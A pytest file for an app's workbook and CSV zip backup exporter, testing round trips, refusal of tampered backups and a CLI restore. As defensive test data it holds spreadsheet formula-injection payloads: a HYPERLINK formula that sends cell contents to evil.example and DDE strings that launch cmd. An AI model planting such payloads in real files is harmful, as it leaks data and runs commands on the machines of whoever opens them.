"""Tests of core.io.exporter: workbook and CSV zip exports, their import, restore, and the exact round trip."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
import yaml
from openpyxl import load_workbook

from core.base import cells
from core.base.i18n import Msg
from core.io import exporter
from core.io.exporter import (
    ALL_FILES,
    CONCLUSION_COLUMNS,
    EVALUATION_COLUMNS,
    EVENT_COLUMNS,
    SHEETS,
    BackupError,
    export_csv_zip,
    export_tables,
    export_workbook,
    import_csv_zip,
    import_workbook,
    plan_from_tables,
    read_backup,
    restore_store,
    xlsx_escape,
    xlsx_unescape,
)
from core.io.importer import apply_import, parse_import
from core.plan.loader import CSV_FILES, columns_of, load_plan
from core.plan.model import Measure, Observation
from core.store import Editor, MeasureEdit, Store
from core.views import queries

MINI = Path(__file__).resolve().parents[1] / "fixtures" / "mini"
MEASURE_COLUMNS = columns_of(Measure)
OBS_COLUMNS = columns_of(Observation)


@pytest.fixture(scope="module")
def plan():
    return load_plan(MINI)


@pytest.fixture
def editor():
    return Editor("Testi")


@pytest.fixture
def store(plan, editor, past_the_store):
    """The mini plan's store after a year of use: edits, a new and a deleted measure, imports, evaluations, events."""
    s = Store.open("sqlite://", plan)
    m = s.measure("kymsote-I.1-1")
    s.save_measure_edits(
        [
            MeasureEdit(
                "kymsote-I.1-1",
                m["version"],
                {
                    "status": "käynnissä",
                    "end_year": 2024,
                    "contact": "=SUM(A1) Liisa",
                    "seuranta": "- Seuranta\n- 2 krt/v",
                },
            )
        ],
        editor,
    )
    new_id = s.add_measure(
        "hamina", "I.2", {"toimenpide": "Perhekahvila _x0041_ ja\tsarkain", "aikataulu": "2021–2023"}, editor
    )
    assert new_id == "hamina-I.2-1"
    s.delete_measure("hamina-II.1-1", s.measure("hamina-II.1-1")["version"], editor)
    # text that only data/ can bring: CR and a control character
    past_the_store.update_measure(s, "hamina-I.1-1", toimenpide="Rivi 1\r\nRivi 2\x0bloppu")
    s.save_evaluation(
        "kymsote-I.1-1",
        2021,
        {"rating": 3, "comment": "Hyvin edennyt", "evaluator": "Arvioija", "evaluated_on": "2022-01-15"},
        None,
        editor,
    )
    s.save_evaluation("hamina-I.2-1", 2022, {"rating": "", "comment": "Ei vielä arvioitu"}, None, editor)
    s.save_event(
        None, {"title": "Vuosiarviointi", "months": "1,2", "owner": "Kymsote", "description": "Kaikki"}, None, editor
    )
    e2 = s.save_event(None, {"title": "Poistuva", "months": "5"}, None, editor)
    s.save_event(None, {"title": "Syysseminaari", "months": "9–10"}, None, editor)
    s.delete_event(e2, 1, editor)
    s.save_conclusion("testi-2020-2025", "plan", {}, {"worked": "=Kuuleminen\ntoimi", "carry_on": "Jatketaan"}, editor)
    s.save_conclusion("testi-2020-2025", "I", {}, {"did_not_work": "Viestintä"}, editor)
    result = parse_import(
        b"indicator_id,group_id,area,year,value,value_as_printed\n"
        b'31,lk4_5,kymenlaakso,2021,6.4,"6,4 %"\n7,lk4_5,kymenlaakso,2019,88.5,\n',
        "uudet.csv",
        plan,
    )
    apply_import(s, result, editor)
    return s


def store_data(store: Store) -> dict[str, pd.DataFrame]:
    """The store's content without bookkeeping (ids, versions, timestamps), in a stable order."""
    ms = store.measures()[MEASURE_COLUMNS].sort_values("measure_id").reset_index(drop=True)
    obs = store.observations()[OBS_COLUMNS].sort_values(["indicator_id", "series_id", "group_id", "area", "year"])
    ev = store.evaluations()[EVALUATION_COLUMNS].sort_values(["measure_id", "year"])
    events = store.events()[EVENT_COLUMNS].sort_values("event_id")
    conclusions = store.conclusions()[CONCLUSION_COLUMNS]
    return {
        "conclusions": conclusions.reset_index(drop=True),
        "measures": ms,
        "observations": obs.reset_index(drop=True),
        "evaluations": ev.reset_index(drop=True),
        "events": events.reset_index(drop=True),
    }


def assert_same_data(a: Store, b: Store) -> None:
    da, db = store_data(a), store_data(b)
    for name in da:
        pd.testing.assert_frame_equal(da[name], db[name], check_dtype=False, obj=name)


# ------------------------------------------------------------------------------------------
# Export formats


def test_workbook_has_one_sheet_per_file(plan, store):
    wb = load_workbook(io.BytesIO(export_workbook(plan, store)))
    assert (
        wb.sheetnames
        == list(SHEETS)
        == [
            "plan",
            "groups",
            "goals",
            "subgoals",
            "indicators",
            "series",
            "observations",
            "subgoal_indicators",
            "actors",
            "measures",
            "evaluations",
            "events",
            "conclusions",
        ]
    )

    def header(ws):
        return [c.value for c in ws[1]]

    for sheet, name in SHEETS.items():
        expected = ["key", "value"] if name == "plan.yaml" else exporter.FILE_COLUMNS[name]
        assert header(wb[sheet]) == expected, sheet
    assert header(wb["measures"]) == MEASURE_COLUMNS
    plan_rows = {r[0]: r[1] for r in wb["plan"].iter_rows(min_row=2, values_only=True)}
    assert plan_rows["name"] == "Testisuunnitelma" and yaml.safe_load(plan_rows["status_legend"])["hyva"] == "hyvä"
    ids = [r[0] for r in wb["measures"].iter_rows(min_row=2, values_only=True)]
    assert "hamina-II.1-1" not in ids  # deleted
    assert ids == ["kymsote-I.1-1", "hamina-I.1-1", "hamina-I.2-1"]  # plan order: actor, sub-goal, seq
    assert len(ids) == len(store.measures())
    obs = list(wb["observations"].iter_rows(min_row=2, values_only=True))
    assert len(obs) == len(store.observations()) == len(plan.observations) + 1  # from the STORE
    assert (7, None, "lk4_5", "kymenlaakso", 2019, 88.5, "88 %", None, None) in obs
    row = next(r for r in wb["measures"].iter_rows(min_row=2) if r[0].value == "kymsote-I.1-1")
    contact = row[MEASURE_COLUMNS.index("contact")]
    # text, never a formula, and quoted so that editing the cell in Excel does not make it one (#12)
    assert contact.value == "'=SUM(A1) Liisa" and contact.data_type == "s"
    assert row[MEASURE_COLUMNS.index("status")].value == "käynnissä"
    assert row[MEASURE_COLUMNS.index("end_year")].value == 2024
    assert [r[2] for r in wb["evaluations"].iter_rows(min_row=2, values_only=True)] == [None, 3]
    assert [r[1] for r in wb["events"].iter_rows(min_row=2, values_only=True)] == ["Vuosiarviointi", "Syysseminaari"]


def test_zip_is_a_valid_data_folder(plan, store, tmp_path):
    content = export_csv_zip(plan, store)
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        assert sorted(zf.namelist()) == sorted(ALL_FILES)
        zf.extractall(tmp_path)
    for name, model in CSV_FILES.items():
        raw = (tmp_path / name).read_bytes()
        assert not raw.startswith(b"\xef\xbb\xbf") and b"\r\n" not in raw.replace(b"Rivi 1\r\nRivi 2", b"")
        with open(tmp_path / name, newline="", encoding="utf-8") as f:
            assert next(csv.reader(f)) == columns_of(model), name
    with open(tmp_path / "evaluations.csv", newline="", encoding="utf-8") as f:
        assert next(csv.reader(f)) == EVALUATION_COLUMNS
    with open(tmp_path / "events.csv", newline="", encoding="utf-8") as f:
        assert next(csv.reader(f)) == EVENT_COLUMNS
    assert yaml.safe_load((tmp_path / "plan.yaml").read_text(encoding="utf-8")) == plan.meta
    loaded = load_plan(tmp_path)  # the data/ loader accepts the export as it is
    for part in ("groups", "goals", "subgoals", "indicators", "series", "subgoal_indicators", "actors"):
        assert getattr(loaded, part) == getattr(plan, part), part
    assert len(loaded.measures) == 3 and len(loaded.observations) == len(plan.observations) + 1
    measure = next(m for m in loaded.measures if m.measure_id == "kymsote-I.1-1")
    assert (measure.status.value, measure.end_year, measure.start_year, measure.contact) == (
        "käynnissä",
        2024,
        2020,
        "=SUM(A1) Liisa",
    )


# ------------------------------------------------------------------------------------------
# Round trip


@pytest.mark.parametrize(
    "export,read", [(export_workbook, import_workbook), (export_csv_zip, import_csv_zip)], ids=["xlsx", "zip"]
)
def test_round_trip_gives_identical_data(plan, store, export, read):
    tables = read(export(plan, store))
    original = export_tables(plan, store)
    assert list(tables) == list(original)
    for name in original:
        pd.testing.assert_frame_equal(tables[name], original[name], obj=name)
    restored = restore_store(tables, "sqlite://", Editor("Palauttaja"))
    assert_same_data(store, restored)
    restored_plan = plan_from_tables(tables)
    assert restored_plan.meta == plan.meta
    for part in ("groups", "goals", "subgoals", "indicators", "series", "subgoal_indicators", "actors"):
        assert getattr(restored_plan, part) == getattr(plan, part), part
    again = export_tables(restored_plan, restored)
    for name in original:
        pd.testing.assert_frame_equal(again[name], original[name], obj=name)
    # the text that an .xlsx cannot hold as such survives too
    m = restored.measure("hamina-I.1-1")
    assert m["toimenpide"] == "Rivi 1\r\nRivi 2\x0bloppu"
    assert restored.measure("hamina-I.2-1")["toimenpide"] == "Perhekahvila _x0041_ ja\tsarkain"
    assert restored.measure("kymsote-I.1-1")["permanent"] is False
    assert restored.is_seeded()
    assert restored.history().iloc[0]["action"] == "restore"
    assert restored.history().iloc[0]["changed_by"] == "Palauttaja"


def test_workbook_and_zip_give_the_same_tables(plan, store):
    a = import_workbook(export_workbook(plan, store))
    b = read_backup(export_csv_zip(plan, store), "varmuuskopio.ZIP")
    for name in ALL_FILES:
        pd.testing.assert_frame_equal(a[name], b[name], obj=name)


def test_restored_store_can_be_edited(plan, store, editor):
    restored = restore_store(import_csv_zip(export_csv_zip(plan, store)))
    m = restored.measure("kymsote-I.1-1")
    assert (
        restored.save_measure_edits([MeasureEdit("kymsote-I.1-1", m["version"], {"status": "vakiintunut"})], editor)
        == 1
    )
    assert restored.save_evaluation("kymsote-I.1-1", 2021, {"rating": 4}, 1, editor) == 2
    assert restored.add_measure("hamina", "I.2", {"toimenpide": "Uusi"}, editor) == "hamina-I.2-2"


def test_zipped_plain_data_folder_restores(plan):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for path in MINI.iterdir():
            zf.write(path, f"data/{path.name}")
    tables = import_csv_zip(buf.getvalue())
    assert tables["evaluations.csv"].empty and tables["events.csv"].empty
    restored = restore_store(tables)
    assert sorted(restored.measures()["measure_id"]) == sorted(m.measure_id for m in plan.measures)
    assert len(restored.observations()) == len(plan.observations)


def test_xlsx_escape_round_trip():
    for text in [
        "",
        "tavallinen",
        "a\r\nb",
        "\x00\x01\x1f",
        "_x0041_",
        "_x005F_x0041_",
        "x_x00_y",
        "\ufffe",
        "ä\tö\n",
        "_x0041\x01",
        "_x00\x01",
        "__x0041__",
        "_X0041_",
    ]:
        escaped = xlsx_escape(text)
        assert "\r" not in escaped and "\x00" not in escaped
        assert xlsx_unescape(escaped) == text


# ------------------------------------------------------------------------------------------
# Refusals


def _zip_with(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _zip_files(plan, store) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(export_csv_zip(plan, store))) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def test_import_refusals(plan, store):
    files = _zip_files(plan, store)
    cases: list[tuple[bytes, object, str]] = [
        (b"", import_csv_zip, "tyhjä"),
        (b"not a zip", import_csv_zip, "ei ole zip-paketti"),
        (b"not an xlsx", import_workbook, "ei ole Excel-työkirja"),
        (b"PK\x03\x04" + b"\x00" * 100, import_workbook, "ei voitu avata"),
        (_zip_with({k: v for k, v in files.items() if k != "measures.csv"}), import_csv_zip, "measures.csv puuttuu"),
        (_zip_with({**files, "groups.csv": files["groups.csv"].decode().encode("utf-16")}), import_csv_zip, "UTF-8"),
        (_zip_with({**files, "plan.yaml": b"name: [unclosed"}), import_csv_zip, "YAML"),
        (_zip_with({**files, "goals.csv": b"goal_id,numero\nI,1\n"}), import_csv_zip, "tuntematon sarake 'numero'"),
        (_zip_with({**files, "x/goals.csv": files["goals.csv"]}), import_csv_zip, "useita tiedostoja"),
    ]
    for content, fn, expected in cases:
        with pytest.raises(BackupError) as exc:
            fn(content)  # type: ignore[operator]
        assert expected in str(exc.value), (expected, str(exc.value))
    with pytest.raises(BackupError, match="liian suuri"):
        import_workbook(b"PK\x03\x04" + b"\x00" * (exporter.MAX_BACKUP_BYTES + 1))
    with pytest.raises(BackupError, match=r"\.xlsx\) tai zip"):
        read_backup(b"x", "a.csv")
    # a workbook without a sheet
    wb = load_workbook(io.BytesIO(export_workbook(plan, store)))
    del wb["actors"]
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(BackupError, match="Välilehti 'actors'"):
        import_workbook(out.getvalue())


def test_restore_refuses_invalid_content(plan, store):
    tables = import_csv_zip(export_csv_zip(plan, store))

    def broken(name: str, row: int, col: str, value: str) -> dict[str, pd.DataFrame]:
        copy = {k: v.copy() for k, v in tables.items()}
        copy[name].loc[row, col] = value
        return copy

    cases = [
        (broken("measures.csv", 0, "actor_id", "tuntematon"), "tuntematon toimija"),
        (broken("measures.csv", 0, "start_year", "vuosi"), "ei ole kokonaisluku"),
        (broken("observations.csv", 0, "value", "150"), "0–100"),
        (broken("evaluations.csv", 0, "rating", "7"), "Arvio"),
        (broken("evaluations.csv", 0, "measure_id", "ei-ole-I.1-1"), "tuntematon toimenpide"),
        (broken("events.csv", 1, "event_id", "e1"), "on jo rivillä 2"),
        (broken("events.csv", 0, "months", "13"), "1–12"),
        (broken("conclusions.csv", 1, "scope", "I"), "on jo rivillä 2"),
        (broken("conclusions.csv", 0, "scope", ""), "kohta"),
        (broken("conclusions.csv", 0, "worked", "x" * 4001), "4000"),
        (broken("plan.yaml", 0, "key", ""), "avain puuttuu"),
    ]
    for bad, expected in cases:
        with pytest.raises(BackupError) as exc:
            restore_store(bad)
        assert expected in str(exc.value), (expected, str(exc.value))


def test_backup_refusals_in_english(plan, store):
    tables = import_csv_zip(export_csv_zip(plan, store))
    bad = {k: v.copy() for k, v in tables.items()}
    bad["measures.csv"].loc[0, "start_year"] = "vuosi"  # a loader problem (translated from the loader's wording)
    bad["plan.yaml"].loc[0, "key"] = ""
    with pytest.raises(BackupError) as exc:
        restore_store(bad)
    assert str(exc.value) == exc.value.text("fi") and str(exc.value).startswith("Varmuuskopiota ei voitu käyttää:\n")
    assert "rivi 2, sarake 'start_year': ei ole kokonaisluku: 'vuosi'" in str(exc.value)
    assert exc.value.text("en").splitlines() == [
        "The backup could not be used:",
        "- plan.yaml, row 2: the key is missing.",
        "- plan.yaml: the required key 'name' is missing.",
        "- measures.csv, row 2, column 'start_year': not a whole number: 'vuosi'",
    ]
    bad = {k: v.copy() for k, v in tables.items()}
    bad["evaluations.csv"].loc[0, "rating"] = "7"  # a store rule: the store's own message, in the same language
    with pytest.raises(BackupError) as exc:
        restore_store(bad)
    assert exc.value.text("en") == (
        "The backup could not be used:\n"
        "- evaluations.csv, row 2, column 'rating': The field 'Rating' must be 1–4, not 7."
    )
    for content, read, english in [
        (b"not a zip", import_csv_zip, "The file is not a zip archive."),
        (
            b"x",
            lambda c: read_backup(c, "a.csv"),
            "A backup must be an Excel workbook (.xlsx) or a zip archive (.zip).",
        ),
        (
            _zip_with({**_zip_files(plan, store), "goals.csv": b"goal_id,numero\nI,1\n"}),
            import_csv_zip,
            "goals.csv: unknown column 'numero' (allowed: ",
        ),
    ]:
        with pytest.raises(BackupError) as exc:
            read(content)  # type: ignore[operator]
        assert english in exc.value.text("en"), exc.value.text("en")
        assert not re.search(r"\b(rivi|sarake|tiedosto|puuttuu|tuntematon)\b", exc.value.text("en"), re.I)
    many = BackupError([Msg("exporter.file.missing", file=f"f{i}.csv") for i in range(51)])
    assert many.text("en").endswith("- The file f49.csv is missing.\n… and 1 more.")
    assert str(many).endswith("- Tiedosto f49.csv puuttuu.\n… ja 1 muu.")  # singular for one


def test_restore_refuses_a_store_that_is_not_empty(plan, store, tmp_path):
    url = f"sqlite:///{tmp_path / 'tila.db'}"
    target = Store.open(url, plan)
    before = store_data(target)
    with pytest.raises(BackupError, match="ei ole tyhjä"):
        restore_store(import_csv_zip(export_csv_zip(plan, store)), url)
    after = store_data(target)
    for name in before:
        pd.testing.assert_frame_equal(before[name], after[name])
    # an empty file database is fine, and keeps the data after reopening
    url2 = f"sqlite:///{tmp_path / 'uusi.db'}"
    restore_store(import_workbook(export_workbook(plan, store)), url2)
    assert_same_data(store, Store.open(url2, plan))  # already seeded: not seeded again from the plan


# ------------------------------------------------------------------------------------------
# Hostile texts (#12 items 1, 2): every export neutralises formulas; the app's own import gives them back

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=sarkain alussa",
    "\r=CR alussa",
    "Wordin\x0brivinvaihto\x0c ja sivunvaihto",
    "'=jo valmiiksi lainattu",
    "- luettelo\n- toinen",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?")


@pytest.fixture
def hostile_store(store, past_the_store):
    """The store with hostile texts in every kind of text field (written past the store's own cleaning)."""
    fields = ["toimenpide", "mittari", "aikataulu", "toimijat", "seuranta", "contact", "note"]
    past_the_store.update_measure(store, "kymsote-I.1-1", **dict(zip(fields, HOSTILE, strict=False)))
    past_the_store.update_measure(
        store, "hamina-I.2-1", toimenpide=HOSTILE[7], mittari=HOSTILE[8], toimijat=HOSTILE[9], seuranta=HOSTILE[0]
    )
    store.save_evaluation(
        "kymsote-I.1-1", 2022, {"rating": 2, "comment": HOSTILE[1], "evaluator": HOSTILE[4]}, None, Editor("Testi")
    )
    store.save_event(None, {"title": HOSTILE[3], "months": "3", "description": HOSTILE[0]}, None, Editor("Testi"))
    return store


def _dangerous(text: str) -> bool:
    return text.startswith(TRIGGERS) and not NUMBER.fullmatch(text)


def test_workbook_cells_are_never_formulas(plan, hostile_store):
    wb = load_workbook(io.BytesIO(export_workbook(plan, hostile_store)))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not _dangerous(xlsx_unescape(cell.value)), (ws.title, cell.coordinate, cell.value)
    assert "'" + HOSTILE[0] in texts and "'" + HOSTILE[1] in texts and "''=jo valmiiksi lainattu" in texts
    assert "'" + xlsx_escape(HOSTILE[6]) in texts  # the CR is escaped, the quote still leads


def test_zip_csv_cells_are_never_formulas(plan, hostile_store):
    cells = []
    with zipfile.ZipFile(io.BytesIO(export_csv_zip(plan, hostile_store))) as zf:
        for name in zf.namelist():
            if name.endswith(".csv"):
                for row in csv.reader(io.StringIO(zf.read(name).decode("utf-8"), newline="")):
                    cells += row
    assert cells and not [c for c in cells if _dangerous(c)]
    assert "'" + HOSTILE[0] in cells and "'- luettelo\n- toinen" in cells


@pytest.mark.parametrize(
    "export,read", [(export_workbook, import_workbook), (export_csv_zip, import_csv_zip)], ids=["xlsx", "zip"]
)
def test_hostile_texts_round_trip_exactly(plan, hostile_store, export, read):
    restored = restore_store(read(export(plan, hostile_store)))
    assert_same_data(hostile_store, restored)
    m = restored.measure("kymsote-I.1-1")
    assert [m[f] for f in ("toimenpide", "mittari", "aikataulu", "toimijat", "seuranta", "contact", "note")] == HOSTILE[
        :7
    ]
    m = restored.measure("hamina-I.2-1")
    assert (m["toimenpide"], m["mittari"], m["toimijat"]) == (HOSTILE[7], HOSTILE[8], HOSTILE[9])
    ev = restored.evaluations().set_index(["measure_id", "year"]).loc[("kymsote-I.1-1", 2022)]
    assert (ev["comment"], ev["evaluator"]) == (HOSTILE[1], HOSTILE[4])
    event = restored.events().set_index("title").loc[HOSTILE[3]]
    assert event["description"] == HOSTILE[0]


def test_unzipped_export_loads_as_data_folder_with_the_original_texts(plan, hostile_store, tmp_path):
    with zipfile.ZipFile(io.BytesIO(export_csv_zip(plan, hostile_store))) as zf:
        zf.extractall(tmp_path)
    loaded = load_plan(tmp_path)
    m = next(m for m in loaded.measures if m.measure_id == "kymsote-I.1-1")
    assert (m.toimenpide, m.mittari, m.contact) == (HOSTILE[0], HOSTILE[1], HOSTILE[5])


def test_numbers_stay_numbers_in_the_backup(plan, store):
    tables = export_tables(plan, store)
    tables["observations.csv"].loc[0, "value"] = "-1.5"
    tables["observations.csv"].loc[0, "value_as_printed"] = "-1,5"
    wb = load_workbook(io.BytesIO(exporter.tables_to_workbook(tables)))
    value, printed = wb["observations"]["F2"], wb["observations"]["G2"]
    assert (value.value, value.data_type) == (-1.5, "n")
    assert printed.value == "-1,5"  # a plain number in a text column is no formula: not quoted
    with zipfile.ZipFile(io.BytesIO(exporter.tables_to_zip(tables))) as zf:
        assert zf.read("observations.csv").decode().splitlines()[1].split(",")[5] == "-1.5"


def test_measure_downloads_quote_formulas_and_keep_numbers():
    frame = pd.DataFrame(
        {
            "toimenpide": [HOSTILE[0], HOSTILE[7], "_x0041_ ja tavallinen", None],
            "seuranta": [HOSTILE[2], HOSTILE[5], HOSTILE[6], "\x01ohjausmerkki"],
            "start_year": [2020, None, 2021, 2022],
            "luku": [-1.5, 2.0, float("nan"), 3.25],
            "permanent": [True, False, True, False],
        }
    )
    wb = load_workbook(io.BytesIO(exporter.xlsx_download(frame, "toimenpiteet")))
    ws = wb["toimenpiteet"]
    rows = list(ws.iter_rows(min_row=2))
    assert all(c.data_type != "f" for r in rows for c in r)
    assert rows[0][0].value == "'" + HOSTILE[0] and rows[0][0].data_type == "s"
    assert rows[1][0].value == "Wordin\nrivinvaihto\n ja sivunvaihto"  # \v and \f: no IllegalCharacterError
    assert rows[2][0].value == "_x005F_x0041_ ja tavallinen" and rows[3][0].value is None  # Excel shows _x0041_
    assert [r[1].value for r in rows] == ["'" + HOSTILE[2], "'" + HOSTILE[5], "\n=CR alussa", " ohjausmerkki"]
    assert [r[3].value for r in rows] == [-1.5, 2, None, 3.25] and rows[0][3].data_type == "n"
    assert [r[2].value for r in rows] == [2020, None, 2021, 2022] and rows[0][4].value is True
    text = exporter.csv_download(frame).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert not [c for c in cells if _dangerous(c)]
    assert "'" + HOSTILE[0] in cells and "-1.5" in cells


# ------------------------------------------------------------------------------------------
# Tampered backups (#12 item 7): every row read or refused; a formula cell never becomes an empty text


def _with_dimension(content: bytes, sheet: str, ref: str) -> bytes:
    """The workbook with sheet ``sheet`` claiming the dimension ``ref`` (as a stale record would)."""
    out = io.BytesIO()
    sheet_file = f"xl/worksheets/sheet{list(SHEETS).index(sheet) + 1}.xml"
    with zipfile.ZipFile(io.BytesIO(content)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == sheet_file:
                xml = re.sub(r"<dimension[^>]*/>", "", data.decode("utf-8"))
                xml = re.sub(
                    r"(<worksheet[^>]*>(?:<sheetPr[^>]*/>|<sheetPr.*?</sheetPr>)?)",
                    lambda m: m.group(1) + f'<dimension ref="{ref}"/>',
                    xml,
                    count=1,
                )
                data = xml.encode("utf-8")
            zout.writestr(info, data)
    return out.getvalue()


def _with_formula(content: bytes, sheet: str, coordinate: str, formula: str) -> bytes:
    wb = load_workbook(io.BytesIO(content))
    wb[sheet][coordinate] = formula  # openpyxl writes a formula without a cached value, like a script would
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_workbook_with_a_stale_dimension_is_read_whole(plan, store):
    content = _with_dimension(export_workbook(plan, store), "measures", "A1:B2")
    tables = import_workbook(content)
    assert list(tables["measures.csv"]["measure_id"]) == ["kymsote-I.1-1", "hamina-I.1-1", "hamina-I.2-1"]
    assert list(tables["measures.csv"].columns) == MEASURE_COLUMNS  # every column too, not only A:B
    assert_same_data(store, restore_store(tables))


def test_workbook_with_a_formula_cell_is_refused(plan, store):
    column = chr(ord("A") + MEASURE_COLUMNS.index("toimenpide"))
    content = _with_formula(export_workbook(plan, store), "measures", f"{column}2", '=HYPERLINK("http://x","y")')
    with pytest.raises(BackupError) as exc:
        import_workbook(content)
    assert f"Välilehden 'measures' solussa {column}2 on kaava" in exc.value.text("fi")
    assert f"Sheet 'measures', cell {column}2 holds a formula" in exc.value.text("en")


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("plan.yaml", b"[" * 100_000, "YAML"),
        ("plan.yaml", b"name: " + b"9" * 5000 + b"\n", "YAML"),
        ("goals.csv", b"goal_id," + b"x" * 131_073 + b"\nI,1\n", "CSV-tiedostoa ei voitu lukea"),
    ],
    ids=["yaml-nested", "yaml-5000-digits", "csv-header-cell-131073"],
)
def test_malformed_zip_member_is_refused(plan, store, name, content, expected):
    files = {**_zip_files(plan, store), name: content}
    with pytest.raises(BackupError) as exc:
        import_csv_zip(_zip_with(files))
    assert expected in str(exc.value)


# ------------------------------------------------------------------------------------------
# python -m core restore


def _run(argv: list[str], capsys) -> tuple[int, str, str]:
    from core.__main__ import main

    code = main(argv)
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize("export,suffix", [(export_workbook, "xlsx"), (export_csv_zip, "zip")], ids=["xlsx", "zip"])
def test_cli_restore_round_trip_into_an_empty_sqlite(plan, hostile_store, tmp_path, capsys, export, suffix):
    backup = tmp_path / f"varmuuskopio.{suffix}"
    backup.write_bytes(export(plan, hostile_store))
    url = f"sqlite:///{tmp_path / 'uusi.db'}"
    code, out, err = _run(["restore", str(backup), "--database-url", url], capsys)
    assert (code, err) == (0, "")
    assert out.startswith(f"Varmuuskopio varmuuskopio.{suffix} palautettiin tietokantaan sqlite:///")
    assert f"{len(hostile_store.measures())} toimenpidettä" in out
    restored = Store.open(url)
    assert_same_data(hostile_store, restored)
    assert restored.measure("kymsote-I.1-1")["toimenpide"] == HOSTILE[0]
    # a second restore into the now non-empty store is refused and changes nothing
    before = store_data(restored)
    code, out, err = _run(["restore", str(backup), "--database-url", url, "--lang", "en"], capsys)
    assert code == 1 and out == ""
    assert "The database is not empty" in err and "nothing was written to the database" in err
    after = store_data(Store.open(url))
    for name in before:
        pd.testing.assert_frame_equal(before[name], after[name])


def test_cli_restore_refuses_tampered_and_unreadable_files(plan, store, tmp_path, capsys):
    url = f"sqlite:///{tmp_path / 'tyhja.db'}"
    column = chr(ord("A") + MEASURE_COLUMNS.index("toimenpide"))
    formula = tmp_path / "kaava.xlsx"
    formula.write_bytes(_with_formula(export_workbook(plan, store), "measures", f"{column}3", "=1+1"))
    code, out, err = _run(["restore", str(formula), "--database-url", url], capsys)
    assert code == 1 and out == ""
    assert f"solussa {column}3 on kaava" in err and "Palautus hylättiin; tietokantaan ei kirjoitettu mitään." in err
    assert "Traceback" not in err
    code, out, err = _run(["restore", str(tmp_path / "ei-ole.zip"), "--database-url", url], capsys)
    assert code == 1 and "Tiedostoa ei-ole.zip" not in err and "ei voitu lukea" in err and "Traceback" not in err
    stale = tmp_path / "vanha.xlsx"  # a stale dimension is read whole: every measure restored
    stale.write_bytes(_with_dimension(export_workbook(plan, store), "measures", "A1:R2"))
    code, out, err = _run(["restore", str(stale), "--database-url", url], capsys)
    assert code == 0, err
    assert_same_data(store, Store.open(url))
    bad_url = tmp_path / "ok.zip"
    bad_url.write_bytes(export_csv_zip(plan, store))
    code, out, err = _run(["restore", str(bad_url), "--database-url", "nonsense://x", "--lang", "en"], capsys)
    assert code == 1 and "could not be opened or written" in err and "Traceback" not in err


# ------------------------------------------------------------------------------------------
# core.base.cells: the rules themselves


@pytest.mark.parametrize(
    ("text", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("''-x", "'''-x"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("-1,5", "-1,5"),
        ("1e5", "1e5"),
        ("'5", "'5"),
        ("'", "'"),
        ("", ""),
        ("tavallinen", "tavallinen"),
        (" =välilyönti", " =välilyönti"),
        ("a=b", "a=b"),
        ("\n=x", "\n=x"),
    ],
)
def test_formula_quote_round_trip(text, exported):
    assert cells.neutralise_formula(text) == exported
    assert cells.restore_formula(exported) == text
    assert cells.neutralise_formula(-1.5) == -1.5 and cells.restore_formula(None) is None


@pytest.mark.parametrize(
    ("text", "clean", "notable"),
    [
        ("Rivi\x0btoinen", "Rivi\ntoinen", True),
        ("sivu\x0cvaihto", "sivu\nvaihto", True),
        ("a\r\nb", "a\nb", False),
        ("a\rb", "a\nb", True),
        ("a\x00b\x1fc\x7f", "a b c\x7f", True),
        ("sarkain\tja\nrivi", "sarkain\tja\nrivi", False),
    ],
)
def test_control_characters_are_cleaned(text, clean, notable):
    assert cells.clean_control_chars(text) == clean
    assert cells.has_control_chars(text) is notable


def test_store_saves_words_vertical_tab_as_a_line_break_and_the_excel_download_works(plan, store, editor):
    m = store.measure("kymsote-I.1-1")
    store.save_measure_edits(
        [
            MeasureEdit(
                "kymsote-I.1-1",
                m["version"],
                {"toimenpide": "Ensimmäinen\x0btoinen\x0ckolmas\x01loppu", "contact": "Liisa\x0b040 123"},
            )
        ],
        editor,
    )
    new_id = store.add_measure("hamina", "I.2", {"toimenpide": "Uusi\x0brivi"}, editor)
    m = store.measure("kymsote-I.1-1")
    assert (m["toimenpide"], m["contact"]) == ("Ensimmäinen\ntoinen\nkolmas loppu", "Liisa\n040 123")
    assert store.measure(new_id)["toimenpide"] == "Uusi\nrivi"
    frame = queries.measures_display(plan, store.measures(), "fi")
    ws = load_workbook(io.BytesIO(exporter.xlsx_download(frame, "toimenpiteet"))).active
    assert ws.max_row == len(frame) + 1
